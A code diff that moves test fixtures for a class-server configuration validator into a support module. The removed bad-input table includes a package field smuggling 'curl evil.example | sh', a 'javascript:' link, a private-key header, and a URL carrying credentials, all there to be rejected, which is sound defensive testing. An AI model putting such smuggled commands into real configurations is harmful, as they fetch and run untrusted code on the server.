@@ -1,17 +1,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { ClassConfigError, LETS_ENCRYPT, LETS_ENCRYPT_STAGING, parseClassConfig, SECRET_IS_SET } from "../lib/config/classConfig";
-
-/** A valid GitHub class, as Pulumi hands it over: every value a string, lists as JSON text. */
-const github: Record<string, unknown> = {
-    dnsZone: "example.edu",
-    subdomain: "engr101",
-    letsEncryptEmail: "prof@example.edu",
-    authProvider: "github",
-    oauthClientId: "Iv1.0123456789abcdef",
-    oauthClientSecret: SECRET_IS_SET,
-    allowedUsers: '["ada-lovelace"]',
-};
+import { badCases, github, oidc, without } from "./support/configCases";
 
 function problemsOf(raw: Record<string, unknown>) {
     try {
@@ -23,55 +13,6 @@ function problemsOf(raw: Record<string, unknown>) {
     return assert.fail("expected a ClassConfigError");
 }
 
-const without = (raw: Record<string, unknown>, ...keys: string[]) =>
-    Object.fromEntries(Object.entries(raw).filter(([k]) => !keys.includes(k)));
-
-interface BadCase {
-    readonly what: string;
-    readonly raw: Record<string, unknown>;
-    readonly key: string;
-    readonly says: string;
-}
-
-const oidc = { ...github, authProvider: "oidc", allowedUsers: '["ada@example.edu"]' };
-
-const badCases: BadCase[] = [
-    { what: "no zone", raw: without(github, "dnsZone"), key: "dnsZone", says: "dnsZone: got nothing; is required: The Cloudflare zone" },
-    { what: "neither subdomain nor hostname", raw: without(github, "subdomain"), key: "subdomain", says: "expected subdomain or hostname to be set" },
-    { what: "a subdomain that is not one label", raw: { ...github, subdomain: "engr_101" }, key: "subdomain", says: "expected one DNS label" },
-    { what: "a hostname outside the zone", raw: { ...without(github, "subdomain"), hostname: "engr101.example.org" }, key: "hostname", says: "expected a name inside the zone example.edu" },
-    { what: "a subdomain that contradicts the hostname", raw: { ...github, hostname: "cs50.example.edu" }, key: "subdomain", says: "expected subdomain to agree with hostname cs50.example.edu" },
-    { what: "an invalid e-mail", raw: { ...github, letsEncryptEmail: "prof-at-example.edu" }, key: "letsEncryptEmail", says: "expected an e-mail address for Let's Encrypt notices. Fix: pulumi config set letsEncryptEmail instructor@example.edu" },
-    { what: "root as admin user", raw: { ...github, adminUser: "root" }, key: "adminUser", says: 'adminUser: got "root"; expected a name that is not root, a system account' },
-    { what: "an existing system account as admin user", raw: { ...github, adminUser: "www-data" }, key: "adminUser", says: "expected a name that is not root, a system account" },
-    { what: "a student account as admin user", raw: { ...github, adminUser: "jupyter-ada" }, key: "adminUser", says: "or a student account (jupyter-…)" },
-    { what: "an admin user with capitals", raw: { ...github, adminUser: "Prof" }, key: "adminUser", says: "expected a Linux user name" },
-    { what: "a roster that lets nobody in", raw: without(github, "allowedUsers"), key: "allowedUsers", says: "otherwise nobody can log in" },
-    { what: "an unknown auth provider", raw: { ...github, authProvider: "facebook" }, key: "authProvider", says: "expected github, google or oidc" },
-    { what: "GitHub without a client id", raw: without(github, "oauthClientId"), key: "oauthClientId", says: "oauthClientId: got nothing; is required" },
-    { what: "no client secret", raw: without(github, "oauthClientSecret"), key: "oauthClientSecret", says: "Fix: pulumi config set --secret oauthClientSecret -- <client secret>" },
-    { what: "Google with GitHub organizations", raw: { ...github, authProvider: "google", allowedUsers: '["ada@example.edu"]', githubOrganizations: '["engr101"]' }, key: "githubOrganizations", says: "expected no GitHub organizations unless authProvider is github" },
-    { what: "GitHub with Google hosted domains", raw: { ...github, googleHostedDomains: '["example.edu"]' }, key: "googleHostedDomains", says: "expected no hosted domains unless authProvider is google" },
-    { what: "OIDC without its token endpoint", raw: { ...oidc, oidcAuthorizeUrl: "https://login.example.edu/authorize", oidcUserdataUrl: "https://login.example.edu/userinfo" }, key: "oidcTokenUrl", says: "is required when authProvider is oidc" },
-    { what: "an ftp course repository", raw: { ...github, courseRepoUrl: "ftp://example.edu/course.git" }, key: "courseRepoUrl", says: "expected an https://, ssh:// or git@host:path URL" },
-    { what: "credentials in the course repository URL", raw: { ...github, courseRepoUrl: "https://ada:hunter2@github.com/example/course.git" }, key: "courseRepoUrl", says: "with no credentials in it (use courseRepoToken)" },
-    { what: "a token with an ssh course repository", raw: { ...github, courseRepoUrl: "git@github.com:example/course.git", courseRepoToken: SECRET_IS_SET }, key: "courseRepoToken", says: "courseRepoToken: got a secret value; expected courseRepoUrl to be an https:// URL" },
-    { what: "an invalid CIDR", raw: { ...github, sshAllowedCidrs: '["203.0.113.300/32"]' }, key: "sshAllowedCidrs", says: "sshAllowedCidrs[0]: got \"203.0.113.300/32\"; expected CIDRs such as 203.0.113.4/32 or 2001:db8::/48. Fix: pulumi config set --path 'sshAllowedCidrs[0]' '203.0.113.4/32'" },
-    { what: "no SSH source at all", raw: { ...github, sshAllowedCidrs: "[]" }, key: "sshAllowedCidrs", says: "expected at least 1 item" },
-    { what: "an unparseable memory limit", raw: { ...github, memoryLimit: "2GB" }, key: "memoryLimit", says: 'memoryLimit: got "2GB"; expected a size such as 512M or 2G' },
-    { what: "a CPU limit that is not a number", raw: { ...github, cpuLimit: "two" }, key: "cpuLimit", says: "expected a number" },
-    { what: "a colour that is not a colour", raw: { ...github, loginPrimaryColor: "crimson" }, key: "loginPrimaryColor", says: "expected a colour such as #1f6feb" },
-    { what: "a javascript: help link", raw: { ...github, loginHelpLinks: '[{"text":"Help","url":"javascript:alert(1)"}]' }, key: "loginHelpLinks", says: "loginHelpLinks[0].url: got \"javascript:alert(1)\"; expected an http(s) URL for help links. Fix: pulumi config set --path 'loginHelpLinks[0].url' https://example.edu/engr101" },
-    { what: "a plain-http logo", raw: { ...github, loginLogoUrl: "http://example.edu/logo.png" }, key: "loginLogoUrl", says: "expected an https URL for the logo" },
-    { what: "a negative idle timeout", raw: { ...github, idleTimeoutSeconds: "-5" }, key: "idleTimeoutSeconds", says: "expected 0 (never cull) or more seconds" },
-    { what: "a fractional volume size", raw: { ...github, volumeSizeGb: "1.5" }, key: "volumeSizeGb", says: "expected a whole number of GiB" },
-    { what: "yes for a boolean", raw: { ...github, retainVolume: "yes" }, key: "retainVolume", says: "expected true or false" },
-    { what: "an unsupported image", raw: { ...github, image: "centos-stream-9-x64" }, key: "image", says: "expected ubuntu-24-04-x64 or debian-12-x64" },
-    { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
-    { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
-    { what: "a plain-http ACME directory", raw: { ...github, acmeDirectoryUrl: "http://acme.example.edu/directory" }, key: "acmeDirectoryUrl", says: "expected an https URL for the ACME directory" },
-    { what: "a mistyped key", raw: { ...github, allowedUser: '["ada"]' }, key: "allowedUser", says: "allowedUser: is not a setting of this stack (did you mean allowedUsers?). Fix: pulumi config rm allowedUser" },
-];
 
 for (const bad of badCases) {
     test(`rejects ${bad.what}, naming ${bad.key}`, () => {
